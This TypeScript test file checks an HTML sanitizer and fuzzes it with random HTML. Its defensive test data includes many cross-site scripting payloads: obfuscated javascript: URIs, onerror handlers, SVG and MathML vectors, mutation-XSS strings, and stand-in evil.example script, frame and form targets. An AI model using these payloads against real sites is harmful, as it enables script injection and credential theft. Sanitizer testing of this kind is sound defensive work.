// engine: sqlite
import { describe, expect, setDefaultTimeout, test } from 'bun:test'
import fc from 'fast-check'
import { parse, parseFragment, type DefaultTreeAdapterTypes as Tree } from 'parse5'
import { sanitizePolicy } from '../../src/content/html-policy'
import { sanitizeHtml } from '../../src/content/sanitizer'
import { checkProperty, PROPERTY_TIMEOUT_MS } from '../property-runner'

setDefaultTimeout(PROPERTY_TIMEOUT_MS)

const tenant = { tenant: 'test' }
const sanitizeForTest = (html: string) => sanitizeHtml(tenant, html)

const ALLOWED_ATTRIBUTES = new Set([
  ...Object.values(sanitizePolicy.allowedAttributes || {}).flatMap((some) =>
    some.map((one) => (typeof one === 'string' ? one : one.name)),
  ),
])

/** The nodes and attributes beyond the policy in the tree that a browser would build from this HTML. */
function findHarm(html: string): string[] {
  const findings: string[] = []
  const visit = (node: Tree.Node) => {
    if (node.nodeName === '#comment') findings.push('comment')
    if ('tagName' in node) {
      const frame = ['html', 'head', 'body'].includes(node.tagName)
      if (!frame && !(sanitizePolicy.allowedTags as string[]).includes(node.tagName)) findings.push(`<${node.tagName}>`)
      if (node.namespaceURI !== 'http://www.w3.org/1999/xhtml') findings.push(node.namespaceURI)
      for (const { name, value } of node.attrs) {
        if (!ALLOWED_ATTRIBUTES.has(name) && !name.startsWith('aria-')) findings.push(name)
        // Browsers drop these characters before they look for a scheme.
        const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value.replace(/[\p{Cc}\s]/gu, ''))?.[1]?.toLowerCase()
        const address = ['href', 'src', 'poster', 'cite'].includes(name)
        if (address && scheme && !['http', 'https', 'mailto', 'tel'].includes(scheme)) findings.push(`${name}=${value}`)
      }
    }
    if ('content' in node) visit(node.content)
    if ('childNodes' in node) node.childNodes.forEach(visit)
  }
  // Parsed as a fragment that a script inserts, and as a part of the page.
  visit(parseFragment(html))
  visit(parse(`<!doctype html><body><div>${html}</div>`))
  return findings
}

describe('harmless HTML', () => {
  test.each([
    '<h1 class="a b" title="x">A</h1><p>text <strong>bold</strong> <em>soft</em></p>',
    '<a href="https://example.com/?a=1&amp;b=2" target="_blank">link</a> <a href="/here#there">here</a>',
    '<a href="mailto:a@example.com">mail</a> <a href="tel:+491234">call</a> <a href="//example.com/x">other</a>',
    '<img src="https://example.com/a.png" alt="" width="10" height="20" loading="lazy" />',
    '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
    '<ol start="3"><li>a</li><li value="7">b</li></ol><details open><summary>more</summary>text</details>',
    '<video src="/a.mp4" poster="/a.png" controls></video>',
    '<p lang="ar" dir="rtl" aria-label="x" role="note">سلام 😀 &amp; &lt;b&gt;</p>',
    'plain text, 1 &lt; 2',
    '',
  ])('the sanitizer keeps harmless HTML: %s', async (html) => {
    expect(await sanitizeForTest(html)).toBe(html)
    expect(findHarm(html)).toEqual([])
  })
})

describe('harmful HTML', () => {
  test.each([
    ['a script', '<script>alert(1)</script>a', 'a'],
    ['a script in capitals', '<SCRIPT SRC=//evil.example/x></SCRIPT>a', 'a'],
    ['a script that is not closed', 'a<script>alert(1)', 'a'],
    ['an event', '<img src=x onerror=alert(1)>', '<img src="x" />'],
    ['an event after a slash', '<b/onclick=alert(1)>a</b>', '<b>a</b>'],
    ['events of elements', '<body onload=alert(1)><details ontoggle=alert(1) open>a', '<details open>a</details>'],
    ['javascript:', '<a href="javascript:alert(1)">a</a>', '<a>a</a>'],
    ['javascript: in pieces', '<a href="jav&#x09;ascript:alert(1)">a</a>', '<a>a</a>'],
    ['javascript: behind a control character', '<a href="\u0001javascript:alert(1)">a</a>', '<a>a</a>'],
    ['javascript: as entities', '<a href="&#106;&#97;vascript&colon;alert(1)">a</a>', '<a>a</a>'],
    ['javascript: behind a comment', '<a href="java<!-- -->script:alert(1)">a</a>', '<a>a</a>'],
    ['vbscript:', '<a href="vbscript:x">a</a>', '<a>a</a>'],
    ['data: that is a page', '<a href="data:text/html,<script>alert(1)</script>">a</a>', '<a>a</a>'],
    ['data: in a picture', '<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<img />'],
    ['javascript: in a picture', '<video poster="javascript:x" src="javascript:x"></video>', '<video></video>'],
    ['an SVG element', '<svg onload=alert(1)><a xlink:href="javascript:x">a</a></svg>', '<a>a</a>'],
    ['an SVG animation', '<svg><animate attributeName=href values=javascript:x /></svg>', ''],
    ['a MathML element', '<math href="javascript:x"><mi>a</mi></math>', 'a'],
    ['a style', '<p style="position:fixed;inset:0">a</p><style>*{display:none}</style>', '<p>a</p>'],
    ['a frame', '<iframe src="//evil.example"></iframe><object data=x></object><embed src=x>a', 'a'],
    ['a form', '<form action="//evil.example"><input name=password><button>a</button></form>', 'a'],
    ['a base', '<base href="//evil.example"><link rel=stylesheet href=//evil.example><meta http-equiv=refresh>a', 'a'],
    ['ids and names that shadow variables', '<a id="config" name="config">a</a>', '<a>a</a>'],
    ['another window', '<a href="/x" target="_parent">a</a>', '<a href="/x" target>a</a>'],
    ['a comment', '<!-- <img src=x> -->a<!--[if IE]><script>x</script><![endif]-->', 'a'],
    ['a custom element with a slot', '<x-gadget data-bind="x" slot="y">a</x-gadget>', 'a'],
    ['an unterminated tag', '<b title="x" onclick="alert(1)"', ''],
  ])('the sanitizer removes %s', async (_, html, sanitized) => {
    expect(await sanitizeForTest(html)).toBe(sanitized)
    expect(findHarm(sanitized)).toEqual([])
  })

  test('the harm finder of these tests reports each kind of harm', () => {
    expect(findHarm('<!----><svg></svg><b id=x onclick=x><a href=" java\tscript:x">')).toEqual([
      ...['comment', '<svg>', 'http://www.w3.org/2000/svg', 'id', 'onclick', 'href= java\tscript:x'],
      ...['comment', '<svg>', 'http://www.w3.org/2000/svg', 'id', 'onclick', 'href= java\tscript:x'],
    ])
  })

  // Known mutation attacks, in which one parser sees text where another sees elements.
  test.each([
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noscript></div><img src=x onerror=alert(1)></noscript>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><b title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<plaintext><img src=x onerror=alert(1)>',
    '<template><script>alert(1)</script></template>',
    '<select><iframe><style></iframe></select><img src=x onerror=alert(1)></style>',
    '<a href="https://example.com/&quot;onclick=&quot;alert(1)">a</a>',
    '<img alt="`><img src=x onerror=alert(1)>" src=x>',
    '<b a=">"><img src=x onerror=alert(1)>',
    '<<script>alert(1)//<</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--!><img src=x onerror=alert(1)>',
    '<img src=x onerror\u0000=alert(1)>',
    '<img\u000csrc=x\u000conerror=alert(1)>',
    '</p/onclick=alert(1)><table><b><caption><img src=x onerror=alert(1)>',
  ])('the sanitizer leaves nothing harmful for any parser in %s', async (html) => {
    const sanitized = await sanitizeForTest(html)
    expect(findHarm(sanitized)).toEqual([])
    expect(await sanitizeForTest(sanitized)).toBe(sanitized)
  })

  const PIECES = [
    ...[
      '<',
      '>',
      '</',
      '/>',
      '"',
      "'",
      '`',
      '=',
      ' ',
      '\n',
      '&',
      '&lt;',
      '&quot;',
      '&#x',
      ';',
      '<!--',
      '-->',
      '--!>',
      '<![CDATA[',
      ']]>',
    ],
    ...[
      'svg',
      'math',
      'mtext',
      'mglyph',
      'style',
      'script',
      'noscript',
      'iframe',
      'textarea',
      'title',
      'xmp',
      'plaintext',
      'template',
    ],
    ...[
      'table',
      'tr',
      'td',
      'select',
      'option',
      'form',
      'p',
      'b',
      'a',
      'img',
      'div',
      'li',
      'audio',
      'foreignObject',
      'annotation-xml',
    ],
    ...[
      'href',
      'src',
      'onerror',
      'onclick',
      'title',
      'class',
      'id',
      'javascript:',
      'data:',
      'alert(1)',
      'x',
      '<img src=x onerror=alert(1)>',
    ],
    ...[
      '<svg>',
      '</svg>',
      '<math>',
      '<style>',
      '</style>',
      '<p title="',
      '<noscript>',
      '</noscript>',
      '<table>',
      '<a href="',
    ],
  ]

  test('the sanitizer leaves nothing harmful in random combinations of harmful pieces', async () => {
    const soup = fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map((pieces) => pieces.join(''))
    await checkProperty(
      1_500,
      fc.asyncProperty(soup, async (html) => {
        const sanitized = await sanitizeForTest(html)
        expect(findHarm(sanitized)).toEqual([])
        expect(findHarm(await sanitizeForTest(sanitized))).toEqual([])
      }),
    )
  })
})

describe('HTML that keeps the sanitizer busy', () => {
  const SIZE = 256 << 10
  test.each([
    ['elements that never end', '<b>'],
    ['unknown elements that never end', '<x>'],
    ['tables in tables', '<table><tr><td>'],
    ['frames in frames', '<iframe>'],
    ['noscript elements', '<noscript></div>'],
    ['SVG elements', '<svg><p>'],
    ['opening brackets', '<'],
    ['end tags', '</p>'],
    ['elements and wrong ends', `${'<b>'.repeat(100)}${'</p>'.repeat(5_000)}${'</b>'.repeat(100)}`],
    ['comments', '<!--'],
    ['entities', '&amp'],
    ['quotes', '"'],
    ['control characters in an address', '<a href="\u0001\u0002">'],
  ])('the sanitizer handles or rejects 256 KiB of %s', async (_, piece) => {
    const html = piece.repeat(Math.ceil(SIZE / piece.length)).slice(0, SIZE)
    const outcome = await sanitizeForTest(html).catch((error) => error.code)
    if (outcome === 'INVALID_INPUT') expect(await sanitizeForTest('<p>next</p>')).toBe('<p>next</p>')
    else expect(findHarm(outcome)).toEqual([])
  })

  test('HTML that takes too long is rejected with INVALID_INPUT, and the next request succeeds', async () => {
    const refused = sanitizeHtml(tenant, '<'.repeat(SIZE), 1).catch(({ code, message }) => [code, message])
    const next = sanitizeForTest('<p>next</p>')
    expect(await refused).toEqual(['INVALID_INPUT', 'The HTML is too complex to sanitize.'])
    expect(await next).toBe('<p>next</p>')
  })

  test('the event loop keeps turning while large HTML is sanitized', async () => {
    let turns = 0
    let done = false
    const long = sanitizeForTest('<'.repeat(SIZE)).finally(() => {
      done = true
    })
    while (!done) await new Promise<void>((resolve) => setImmediate(() => resolve(void turns++)))
    expect((await long).length).toBe(4 * SIZE)
    expect(turns).toBeGreaterThan(10)
  })

  test('a tenant with more than 100 waiting requests gets BUSY, and another tenant is served', async () => {
    const all = await Promise.allSettled(Array.from({ length: 150 }, () => sanitizeForTest('<p>a</p>')))
    const done = all.filter(({ status }) => status === 'fulfilled')
    expect(done.length).toBeGreaterThanOrEqual(100)
    for (const one of all) if (one.status === 'rejected') expect(one.reason.code).toBe('BUSY')
    expect(await sanitizeHtml({ tenant: 'other' }, '<p>a</p>')).toBe('<p>a</p>')
  })
})
